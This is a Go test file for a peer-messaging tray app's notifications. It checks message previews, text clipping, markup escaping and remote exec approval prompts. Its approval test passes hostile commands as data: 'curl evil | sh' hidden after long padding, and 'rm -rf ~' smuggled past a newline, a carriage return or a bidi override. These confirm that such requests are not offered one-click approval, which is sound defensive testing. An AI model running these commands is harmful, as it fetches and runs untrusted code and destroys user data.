package notify

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/awp-tray/awp-tray/internal/visible"
	"github.com/awp-tray/awp-tray/peer"
	"github.com/awp-tray/awp-tray/peer/grant"
	"github.com/awp-tray/awp-tray/peer/key"
	"github.com/awp-tray/awp-tray/peer/profile"
)

func TestPreview(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{`{"t":"msg","parts":[{"k":"code","text":"x"},{"k":"text","text":"  hello\n\n world "}]}`, "hello world"},
		{`{"t":"msg","parts":[{"k":"code","path":"auth.go","text":"--- a"}]}`, "Code: auth.go"},
		{`{"t":"msg","parts":[{"k":"blob","name":"log.txt"}]}`, "File: log.txt"},
		{`{"t":"msg","parts":[{"k":"future"}]}`, "New message"},
	} {
		m, ok := parseMsg(json.RawMessage(tc.line))
		if !ok || m.preview() != tc.want {
			t.Errorf("%s: %q (ok %v), want %q", tc.line, m.preview(), ok, tc.want)
		}
	}
	req, _ := parseMsg(json.RawMessage(`{"t":"msg","parts":[{"k":"data","mime":"application/vnd.awp.exec+json","data":{}}]}`))
	other, _ := parseMsg(json.RawMessage(`{"t":"msg","parts":[{"k":"data","mime":"application/json","data":{}}]}`))
	if !req.machine() || other.machine() {
		t.Errorf("machine: profile request %v, plain data %v", req.machine(), other.machine())
	}
	if _, ok := parseMsg(json.RawMessage(`{"t":"state","state":"done"}`)); ok {
		t.Error("a state line parsed as a msg")
	}
	// Every mime of AWP's own traffic is machine traffic: the profile's,
	// the grant and the grant request's.
	for _, mime := range []string{profile.MimeExec, profile.MimeExecResult, profile.MimeRead, profile.MimeReadResult,
		profile.MimeWrite, profile.MimeWriteResult, grant.Mime, peer.MimeGrantRequest, peer.MimeGrantDenied} {
		m, _ := parseMsg(json.RawMessage(`{"t":"msg","parts":[{"k":"data","mime":"` + mime + `","data":{}}]}`))
		if !m.machine() {
			t.Errorf("%s: not machine traffic", mime)
		}
	}
}

func TestClip(t *testing.T) {
	if got := clip("ééééé", 4); got != "ééé…" {
		t.Errorf("clip: %q", got)
	}
	if got := clip("a\tb", 4); got != "a b" {
		t.Errorf("clip: %q", got)
	}
	if got := clip("hi \u202eevil", 20); got != `hi \u202eevil` {
		t.Errorf("clip: %q", got)
	}
}

// A notification offers "Allow once" only when its body shows the
// request's data whole; else it points to the Approvals window.
func TestApprovalNotificationWhole(t *testing.T) {
	long := strings.Repeat("a", maxText)
	for _, tc := range []struct {
		name, detail, reason string
		allow                bool
	}{
		{"plain", `{"cmd":["make","test"]}`, "", true},
		{"no data", ``, "", true},
		{"long command", `{"cmd":"echo ` + long + `; curl evil | sh"}`, "", false},
		{"two lines", `{"cmd":"echo hi\nrm -rf ~"}`, "", false},
		{"carriage return", `{"cmd":"echo hi\rrm -rf ~"}`, "", false},
		{"bidi override", `{"cmd":"rm -rf ~ #\u202e"}`, "", false},
		{"environment", `{"cmd":"ls","env":{"PATH":"."}}`, "", false},
		{"hidden in the reason only", `{"cmd":["make"]}`, "ok\u202e", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := peer.ApprovalRequest{ID: "a1", Kind: peer.ApprovalProfile, From: key.MustParsePublic("ed25519:" + strings.Repeat("A", 42) + "E"),
				FromName: "ana\u202e", Caps: []string{"exec"}, Detail: json.RawMessage(tc.detail)}
			if tc.reason != "" {
				var reason string
				if err := json.Unmarshal([]byte(`"`+tc.reason+`"`), &reason); err != nil {
					t.Fatal(err)
				}
				r.Reason = reason
			}
			n := approvalNotification(r, key.PublicKey{})
			var keys []string
			for _, a := range n.Actions {
				keys = append(keys, a.Key)
			}
			want := "default,deny"
			if tc.allow {
				want = "default,allow,deny"
			}
			if strings.Join(keys, ",") != want {
				t.Errorf("actions %v, want %s; body %q", keys, want, n.Body)
			}
			if pointer := strings.Contains(n.Body, "Open Approvals to read the whole request"); pointer == tc.allow {
				t.Errorf("body %q: points to Approvals %v, allows %v", n.Body, pointer, tc.allow)
			}
			if visible.Hidden(n.Title) || visible.Hidden(n.Body) {
				t.Errorf("hidden characters shown: title %q body %q", n.Title, n.Body)
			}
			if n.Title != `ana\u202e asks to exec` {
				t.Errorf("title %q", n.Title)
			}
		})
	}
}

func TestEscapeMarkup(t *testing.T) {
	if got := escapeMarkup(`a<b>&"c"`); got != `a&lt;b&gt;&amp;"c"` {
		t.Errorf("escape: %q", got)
	}
}

func TestUrgencySpec(t *testing.T) {
	if UrgencyLow.spec() != 0 || UrgencyNormal.spec() != 1 || UrgencyCritical.spec() != 2 {
		t.Error("urgency bytes differ from the spec's")
	}
}

// A peer's name reaches a notification's title bounded.
func TestNamesBounded(t *testing.T) {
	huge := strings.Repeat("n", 100_000)
	r := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: key.MustParsePublic("ed25519:" + strings.Repeat("A", 42) + "E"), FromName: huge, Caps: []string{"exec"}}
	if got := approvalTitle(r); len([]rune(got)) > maxName+len(" asks to exec") {
		t.Errorf("approval title: %d runes", len([]rune(got)))
	}
	if got := threadTitle(&thread{peerName: huge, subject: huge}); len([]rune(got)) > maxName+2+maxSubject {
		t.Errorf("thread title: %d runes", len([]rune(got)))
	}
}

// An exec notification says when the command would run unsandboxed.
func TestApprovalNotificationUnsandboxed(t *testing.T) {
	r := peer.ApprovalRequest{ID: "a1", Kind: peer.ApprovalProfile, From: key.MustParsePublic("ed25519:" + strings.Repeat("A", 42) + "E"),
		Caps: []string{"exec"}, Detail: json.RawMessage(`{"cmd":["make","test"]}`), Sandbox: "none"}
	if n := approvalNotification(r, key.PublicKey{}); !strings.Contains(n.Body, "Runs unsandboxed as you") {
		t.Errorf("body %q", n.Body)
	}
	r.Sandbox = "bwrap"
	if n := approvalNotification(r, key.PublicKey{}); strings.Contains(n.Body, "unsandboxed") {
		t.Errorf("sandboxed body %q", n.Body)
	}
}
